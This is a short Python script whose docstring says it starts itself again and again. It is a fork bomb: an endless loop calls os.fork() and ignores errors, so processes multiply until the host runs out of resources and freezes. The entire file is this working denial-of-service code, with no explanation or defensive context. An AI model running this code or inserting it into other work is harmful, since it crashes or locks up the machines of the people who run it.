"""Starts itself again and again."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
